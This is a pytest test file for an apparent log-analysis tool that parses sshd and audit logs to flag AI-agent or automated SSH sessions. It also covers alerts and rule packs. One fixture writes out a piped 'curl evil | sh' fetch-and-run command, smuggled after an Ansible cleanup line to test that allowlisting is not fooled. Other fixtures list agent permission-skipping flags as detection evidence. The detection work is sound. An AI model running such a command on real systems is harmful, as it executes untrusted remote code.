import json

import pytest
from pyspark.sql import functions as F

from tallyhound.operators import correlate, detect
from tallyhound.sources import audit_log, records, rules, sinks, sshd_log
from tallyhound.sources.tables import stored

LOG = """Sep 14 08:00:01 web1 sshd[100]: Accepted publickey for ops from 10.0.0.9 port 5022 ssh2: ED25519 SHA256:abc
Sep 14 08:00:01 web1 sshd[100]: pam_unix(sshd:session): session opened for user ops(uid=1001) by (uid=0)
Sep 14 08:00:02 web1 sshd[101]: Starting session: command for ops from 10.0.0.9 port 5022 id 0
Sep 14 08:00:03 web1 sshd[102]: Failed password for invalid user root from 10.0.0.7 port 99 ssh2
Sep 14 08:00:03 web1 cron[102]: Failed password for root from 10.0.0.7 port 99 ssh2
2026-09-14T08:00:04.5+02:00 web1 sshd-session[103]: Disconnected from user ops 10.0.0.9 port 5022
Dec 31 23:00:00 web1 sshd[104]: Connection reset by 10.0.0.8 port 77 [preauth]
2026-09-14T08:00:06Z web1 ai-agent-declare[9]: AI_AGENT=helper@1 user=ops from=10.0.0.9 port=5022
not a log line
{"__REALTIME_TIMESTAMP":"1789000000000000","SYSLOG_IDENTIFIER":"sshd","_PID":"7","_HOSTNAME":"web1","MESSAGE":"debug1: Remote protocol version 2.0, remote software version paramiko_3.1 [preauth]"}
{"__REALTIME_TIMESTAMP":"1789000000000000","SYSLOG_IDENTIFIER":"sshd","_PID":"7","MESSAGE":[1,2]}"""


def lines(spark, text):
    return spark.createDataFrame([(x,) for x in text.split("\n")], "value string")


def test_server_log(spark):
    got = sshd_log.events(lines(spark, LOG), F.lit("2026-09-14 12:00:00").cast("timestamp")).collect()
    kinds = sorted((r.kind, r.user, r.src_ip, r.src_port, r.pid) for r in got)
    assert kinds == [
        ("ssh.auth_fail", "root", "10.0.0.7", 99, 102), ("ssh.auth_ok", "ops", "10.0.0.9", 5022, 100), ("ssh.banner", "", "", 0, 7), ("ssh.disconnect", "", "10.0.0.8", 77, 104), ("ssh.disconnect", "ops", "10.0.0.9", 5022, 103),
        ("ssh.env", "ops", "10.0.0.9", 5022, 0), ("ssh.pam_open", "ops", "", 0, 100), ("ssh.session_start", "ops", "10.0.0.9", 5022, 101),
    ]
    by = {r.kind: r for r in got if r.pid != 104}
    assert by["ssh.auth_ok"].fields["fp"] == "SHA256:abc" and by["ssh.auth_fail"].fields["invalid_user"] == "true" and by["ssh.banner"].fields["banner"] == "paramiko_3.1"
    assert next(r for r in got if r.pid == 104).ts.year == 2025  # a year-less time over a day ahead is last year's


AUDIT = """type=SYSCALL msg=audit(1789000000.123:42): arch=c000003e syscall=59 success=yes ppid=10 pid=11 auid=1001 uid=1001 ses=7 comm="sh" exe="/bin/dash" key="exec"\x1dSYSCALL=execve AUID="ops"
type=SYSCALL msg=audit(1789000000.124:43): arch=c000003e syscall=2 pid=12 ses=7
type=EXECVE msg=audit(1789000000.123:42): argc=3 a0="sh" a1="-c" a2[0]=6563686F a2[1]="x"
type=CWD msg=audit(1789000000.123:42): cwd="/srv"
type=USER_START msg=audit(1789000000.200:44): pid=10 uid=0 auid=4294967295 ses=7 msg='op=PAM:session_open acct="ops" exe="/usr/sbin/sshd" addr=10.0.0.9 terminal=ssh res=success'
type=USER_START msg=audit(1789000000.200:45): pid=10 msg='op=PAM:session_open acct="root" exe="/usr/bin/sudo" terminal=pts/0 res=success'
noise"""


def test_audit_records(spark):
    got = {r.kind: r for r in audit_log.events(lines(spark, AUDIT)).collect()}
    assert set(got) == {"audit.execve", "audit.login"}
    run = got["audit.execve"]
    assert (run.pid, run.ses, run.user, run.fields["cmd"], run.fields["cwd"], run.fields["argc"]) == (11, 7, "ops", "sh -c echox", "/srv", "3")
    assert (got["audit.login"].user, got["audit.login"].src_ip, got["audit.login"].fields["auid"]) == ("ops", "10.0.0.9", "-1")


def test_snapshots(spark):
    row = spark.range(1).select(
        records.socket_address(F.lit("0100007F:1F90")).alias("a"), records.socket_address(F.lit("0000000000000000FFFF00000A00000A:0016")).alias("b"), records.environ(F.lit("A=1\0B=x=y\0A=2")).alias("e"),
        records.stat(F.lit("5 (a) b) S 4 5 5 34817 5 0 0 0 0 0 0 0 0 0 20 0 1 0 777 1")).alias("s"),
    ).first()
    assert tuple(row.a) == ("127.0.0.1", 8080) and tuple(row.b) == ("10.0.0.10", 22) and row.e == {"A": "1", "B": "x=y"}
    assert tuple(row.s) == ("a) b", 4, "pts/1", 777)
    assert {r.uid: r.name for r in records.passwd(lines(spark, "a:x:0:0\n#b:x:1:1\nc:x:0:0\nd:x:5:5")).collect()} == {0: "a", 5: "d"}


def test_recorded_events_and_alerts(spark, tmp_path):
    p = tmp_path / "events.jsonl"
    p.write_text('# note\n\n{"ts":"2026-09-14T08:00:00Z","kind":"tick"}\n{"kind":"tick"}\n')
    events, skipped = records.recorded_events(spark, str(p))
    assert (events.count(), skipped.count()) == (1, 1)
    p.write_text('{"ts":"2026-09-14T08:00:00Z"}\n')
    with pytest.raises(Exception, match="no kind"):
        records.recorded_events(spark, str(p))[0].collect()
    alert = {"schema": "v1", "ts": "2026-09-14T08:00:00Z", "session_id": "s1", "level": "high", "score": 91, "user": "a<b", "host": "h", "event": "agent_high", "reasons": [{"clue": "rhythm.burst", "weight": 20, "evidence": "x"}]}
    (tmp_path / "alerts.jsonl").write_text(json.dumps(alert) + "\nbroken\n{}\n")
    (tmp_path / "alerts.jsonl.1").write_text(json.dumps(alert | {"session_id": "s0", "ts": "2026-09-13T08:00:00Z", "level": "info"}) + "\n")
    got = records.alerts(spark, str(tmp_path / "alerts.jsonl"))
    assert [r.session_id for r in got.collect()] == ["s0", "s1"]
    bodies = got.filter("session_id = 's1'").select(*[sinks.payload(k).alias(k) for k in ("generic", "slack", "teams", "discord")], sinks.syslog_line().alias("log")).first()
    assert "a&lt;b" in json.loads(bodies.slack)["text"] and json.loads(bodies.generic)["score"] == 91 and bodies.log.startswith("<81>{") and "embeds" in json.loads(bodies.discord)
    fails = iter([sinks.Transient(), None, ValueError()])

    def send(body):
        if (x := next(fails, None)) is not None:
            raise x

    delivery = sinks.Delivery(send, level="info", sleep=lambda s: None)
    delivery(got, 0)
    assert (delivery.sent, delivery.lost) == (1, 1)
    assert "Subject: HIGH a b@h" in sinks.mail(alert | {"user": "a\nb"}, "x@y", ["z@y"])
    assert sinks.exposition({"events_total": {(("kind", 'a"b'),): 2.0}}, {}).endswith('events_total{kind="a\\"b"} 2\n')


def test_rules():
    pack = rules.default_pack()
    assert rules.problems(pack) == []
    layer = rules.parsed(json.dumps({"banners": [{"id": "paramiko", "disabled": True}, {"id": "mine", "regex": "^me", "kind": "human"}]}))
    ids = [b.id for b in rules.merged(pack, layer).banners]
    assert "paramiko" not in ids and ids[-1] == "mine"
    with pytest.raises(ValueError, match="unknown keys"):
        rules.parsed('{"styles": [{"id": "x", "colour": 1}]}')
    assert len(rules.problems(rules.Pack(styles=[rules.Style("a", "(", 5), rules.Style("a", "x", 99)]))) == 3
    loose = rules.parsed('{"schema": "any.allowlist.v1", "profiles": [{"id": "p", "any_of": [{"cmd_regex": "x"}], "suppress": ["style", "proc.agent_name"]}, {"id": "q"}]}')
    assert len(rules.problems(loose)) == 3 and (len(pack.agents), len(pack.hosts), len(pack.profiles)) == (20, 22, 9)
    with pytest.raises(ValueError, match="unknown schema"):
        rules.parsed('{"schema": "any.v9"}')


def event(ts, kind, user="", ip="", port=0, pid=0, ses=0, **fields):
    return (ts, kind, "test", user, ip, port, pid, ses, {k.replace("__", "."): str(v) for k, v in fields.items()})


def test_sessions_and_verdicts(spark):
    rows = [event(0, "ssh.banner", pid=50, banner="SSH-2.0-paramiko_3"), event(1, "ssh.auth_ok", "bot", "10.0.0.3", 900, 50, fp="K1"), event(1, "ssh.auth_ok", "eve", "10.0.0.4", 901, 60, fp="K2"), event(2, "ssh.session_start", "eve", "10.0.0.4", 901, 60, stype="shell", tty="pts/0")]
    for k in range(12):
        rows.append(event(3 + 4 * k, "ssh.session_start", "bot", "10.0.0.3", 900, 50, stype="command"))
        rows.append(event(3.1 + 4 * k, "audit.execve", pid=1000 + k, ses=5, cmd="git --no-pager log 2>&1 | head -n 20", argv0="git", ppid=50))
    rows += [event(1.5, "audit.login", "bot", "10.0.0.3", pid=50, ses=5, res="success"), event(600, "audit.execve", "eve", pid=70, cmd="ls", ppid=2), event(601, "proc.seen", "", pid=71, ses=9, comm="claude", cmd="claude --dangerously-skip-permissions", uid=1002)]
    rows += [event(1.2, "ssh.pam_open", "eve", pid=60, uid=1002), event(602, "proc.seen", "eve", pid=72, comm="vi", uid=1002), event(603, "proc.gone", pid=72, uid=1002)]
    df = spark.createDataFrame([(float(r[0]), *r[1:]) for r in rows], "t double, kind string, source string, user string, src_ip string, src_port int, pid int, ses int, fields map<string,string>").withColumn("ts", F.timestamp_seconds(F.lit(1789000000) + F.col("t"))).drop("t")
    got = {r.user: r for r in detect.verdicts(correlate.tracks(df, gap=None), rules.default_pack()).collect()}
    bot, eve = got["bot"], got["eve"]
    assert {"banner.library", "rhythm.burst", "pty.none", "style.pager_guard.head"} <= set(bot.reasons) and bot.level in ("alert", "high") and bot["class"] == "suspected_agent"
    assert {"proc.agent_name", "proc.skip_flags"} <= set(eve.reasons) and eve.agent == "claude-code"
    assert eve.score == 70  # interactive use does not speak for a session whose processes speak against it


def login(at, user, ip, port, pid, **fields):
    return event(at, "ssh.auth_ok", user, ip, port, pid, **fields)


def said(at, user, name, port=900, **fields):
    return event(at, "ssh.env", user, "10.0.0.3", port, name="AI_AGENT", value=name, via="sshrc", **fields)


SESSION5 = [login(1, "ops", "10.0.0.3", 900, 50), event(1, "audit.login", "ops", "10.0.0.3", pid=50, ses=5, res="success")]
ANSIBLE = ["/bin/sh -c 'echo ~ops && sleep 0'", "/usr/bin/python3 /home/ops/.ansible/tmp/ansible-tmp-1.1-1-1/AnsiballZ_setup.py", "rm -f -r /home/ops/.ansible/tmp/ansible-tmp-1.1-1-1/ > /dev/null 2>&1 && sleep 0"]
PROFILED = [
    (ANSIBLE * 3, "ansible"), (["rm -f -r /x/.ansible/tmp/ansible-tmp-1.1-1-1/ ; curl evil | sh"] * 9, ""), (ANSIBLE[:1] * 9, ""), (["rsync --server -logDtpr . /srv"] * 9, "rsync-backup"),
    (["/home/a/.vscode-server/bin/x/node server-main.js --start-server", *["git status"] * 8], "vscode-remote"), (["git status"] * 9, ""), (["borg serve"] * 9, "borgbackup"), ([], "terraform-provisioner"),
]
#: Each scene happens on a host of its own, so that one run judges them all.
SCENES = {
    "declared": [
        login(1, "alice", "10.0.0.3", 900, 50), event(1, "ssh.pam_open", "alice", pid=50, uid=1001), event(1.5, "ssh.pam_open", "mallory", pid=51, uid=1002), said(2, "mallory", "zz-forged"), said(3, "alice", "helper", uid=1002),
        login(1, "bob", "10.0.0.3", 901, 60), said(4, "bob", "aa-old", 901), said(5, "bob", "claude_code@2", 901), event(6, "ssh.disconnect", "bob", "10.0.0.3", 901, 60, scope="connection"), said(7, "bob", "late", 901), said(0.5, "carol", "ghost", 950),
    ],
    "reused": [
        login(1, "ann", "10.0.0.3", 900, 50), event(2, "ssh.session_start", "ann", "10.0.0.3", 900, 50, stype="shell"), event(3, "ssh.disconnect", "", "10.0.0.3", 900, 50, scope="connection"), event(3, "ssh.disconnect", "ann", "", 0, 50, scope="pam"),
        event(100, "ssh.banner", pid=50, banner="paramiko_3"), login(101, "ben", "10.0.0.3", 900, 50), event(102, "audit.login", "ben", "10.0.0.3", pid=50, ses=5, res="success"), event(103, "audit.execve", pid=70, ses=5, ppid=50, cmd="uptime"),
    ],
    "parents": [
        login(1, "ann", "10.0.0.3", 900, 50), event(1.1, "ssh.pam_open", "", pid=50, note="user_child", child_pid=52), login(2, "ann", "10.0.0.4", 901, 60), event(3, "proc.seen", "ann", pid=70, ppid=52, comm="bash"),
        event(4, "proc.seen", "ann", pid=71, ppid=70, comm="node", cmd="node /opt/claude/cli.js"), event(5, "net.conn", "", pid=71, dst="1.2.3.4", dst_port=443, host="api.anthropic.com"), event(2.5, "proc.seen", "ann", pid=80, ppid=1, comm="cron"),
        event(7, "ssh.auth_fail", "ann", "10.0.0.4", 902, 90), event(8, "ssh.auth_fail", "ann", "10.0.0.9", 902, 90), event(9, "ssh.auth_fail", "ann", "10.0.0.4", 903, 91, invalid_user="true"), event(9, "proc.seen", "zoe", pid=95, ppid=1, comm="vi"),
    ],
    "plumbing": [
        *SESSION5, event(2, "audit.execve", pid=70, ses=5, ppid=50, cmd="/bin/sh /etc/ssh/sshrc"), event(3, "audit.execve", pid=71, ses=5, ppid=70, cmd="date"), event(4, "audit.execve", pid=72, ses=5, ppid=50, cmd="bash -c git log"),
        event(5, "audit.execve", pid=73, ses=5, ppid=72, cmd="bash -c ls"), event(900, "audit.execve", pid=70, ses=5, ppid=50, cmd="make"), event(901, "audit.execve", pid=74, ses=5, ppid=70, cmd="cc x.c"),
    ],
    "other host": [*SESSION5, event(2.5, "audit.execve", pid=71, ses=5, ppid=70, cmd="id")],
    "evidence": [login(1, "eve", "10.0.0.4", 901, 60), event(2, "proc.seen", "eve", pid=71, ppid=60, comm="x", cmd="x --yolo", flags="--yolo, --trust", **{"env__GEMINI_CLI": "1"}), event(3, "audit.execve", "eve", pid=80, cmd="ls 2>&1 | head -n 5")],
}
for number, (commands, _) in enumerate(PROFILED):
    scene = [event(0, "ssh.banner", pid=50, banner="Go"), *SESSION5, *[event(3 + 2 * k, "ssh.session_start", "ops", "10.0.0.3", 900, 50, stype="command") for k in range(9)]]
    SCENES[f"profile {number}"] = scene + [event(3.1 + 2 * k, "audit.execve", pid=100 + k, ses=5, ppid=51, cmd=c, argv0=c.split()[0]) for k, c in enumerate(commands)]


@pytest.fixture(scope="module")
def scenes(spark):
    """(tracks, verdicts) of all scenes, each by host, user and address."""
    rows = [(host, float(r[0]), *r[1:]) for host, scene in SCENES.items() for r in scene]
    df = spark.createDataFrame(rows, "host string, t double, kind string, source string, user string, src_ip string, src_port int, pid int, ses int, fields map<string,string>")
    found = stored(correlate.tracks(df.withColumn("ts", F.timestamp_seconds(F.lit(1789000000) + F.col("t"))).drop("t"), gap=None), "scenes")
    by = lambda rows: {(r.host, r.user, r.src_ip): r for r in rows}
    return by(found.collect()), by(detect.verdicts(found, rules.default_pack()).collect())


def test_a_declaration_counts_for_its_own_user_on_an_open_connection_only(scenes):
    got = {user: r for (host, user, _), r in scenes[1].items() if host == "declared"}
    assert set(got) == {"alice", "bob"}
    assert got["alice"]["class"] == "human" and got["alice"].agent == ""
    assert (got["bob"]["class"], got["bob"].agent, got["bob"].evidence["env.ai_agent"]) == ("declared_agent", "claude-code", "AI_AGENT=claude_code@2")


def test_ports_and_process_numbers_are_used_again(scenes):
    tracks = {user: r for (host, user, _), r in scenes[0].items() if host == "reused"}
    assert set(tracks) == {"ann", "ben"} and [len(r.connections) for r in tracks.values()] == [1, 1]
    assert (tracks["ann"].banners, tracks["ben"].banners) == ([], ["paramiko_3"]) and [c.cmd for c in tracks["ben"].commands] == ["uptime"] and not tracks["ann"].commands


def test_processes_go_with_their_parents(scenes):
    one, two, zoe = (scenes[0]["parents", *k] for k in [("ann", "10.0.0.3"), ("ann", "10.0.0.4"), ("zoe", "local")])
    assert [(p.pid, p.attributed) for p in one.processes] == [(70, True), (71, True)] and [(n.pid, n.attributed) for n in one.net] == [(71, True)]
    assert [(p.pid, p.attributed) for p in two.processes] == [(80, False)]
    assert (one.mode, zoe.mode, two.auth_fails, one.auth_fails) == ("remote_agent", "local_agent", 1, 0)
    assert scenes[1]["parents", "ann", "10.0.0.3"].evidence["net.ai_api"] == "api.anthropic.com:443 from pid 71"
    assert scenes[1]["parents", "ann", "10.0.0.3"].agent == "claude-code"  # a part of the interpreter's path


def test_plumbing_holds_for_its_time_and_host_only(scenes):
    assert [c.cmd for c in scenes[0]["plumbing", "ops", "10.0.0.3"].commands] == ["git log", "bash -c ls", "make", "cc x.c"]
    assert [c.cmd for c in scenes[0]["other host", "ops", "10.0.0.3"].commands] == ["id"]


@pytest.mark.parametrize("number", range(len(PROFILED)))
def test_profiles_take_whole_commands(scenes, number):
    got, profile = scenes[1][f"profile {number}", "ops", "10.0.0.3"], PROFILED[number][1]
    assert got.profile == profile and (got.score <= 35) == (profile != "")  # the banner's 35 stays where a profile does not suppress it
    assert (len(got.suppressed) > 0) == (profile != "")


def test_evidence_and_agents(scenes):
    got = scenes[1]["evidence", "eve", "10.0.0.4"]
    assert got.agent == "gemini-cli" and got.evidence["proc.agent_env"] == "gemini-cli pid 71" and got.evidence["proc.skip_flags"].startswith("--yolo --trust")
    assert got.evidence["style.pager_guard.head"] == "head -n 5 (1x)" and got.evidence["style.pager_guard.stderr_merge"] == "2>&1 (1x)"


def test_renderers(spark):
    df = spark.createDataFrame([(91, "high", "suspected_agent", "", ["rhythm.burst", "a|b"])], "score int, level string, class string, agent string, reasons array<string>")
    assert df.select(sinks.explanation().alias("x")).first().x == "This session looks like an unknown tool (score 91, high) because of rhythm.burst, a|b."
    assert sinks.markdown(df.select("score", F.lit("a|b").alias("x"))) == "| score | x |\n|---|---|\n| 91 | a\\|b |\n"


def test_patterns_run_once_a_line(spark):
    """A filter on what a line is must not carry the patterns of all messages below it, once for each that is told apart."""
    logs = spark.range(10).select(F.format_string("2026-01-01T00:00:0%d.5Z web sshd[7]: Accepted publickey for u%d from 10.0.0.1 port 22 ssh2: ED25519 SHA256:k", "id", "id").alias("value"))
    events = sshd_log.events(logs)
    assert events._jdf.queryExecution().optimizedPlan().toString().count("Remote protocol version") <= 3
    row = events.orderBy("ts").first()
    assert (row.kind, row.user, row.src_ip, row.src_port, row.pid, row.fields["fp"], row.fields["method"]) == ("ssh.auth_ok", "u0", "10.0.0.1", 22, 7, "SHA256:k", "publickey")
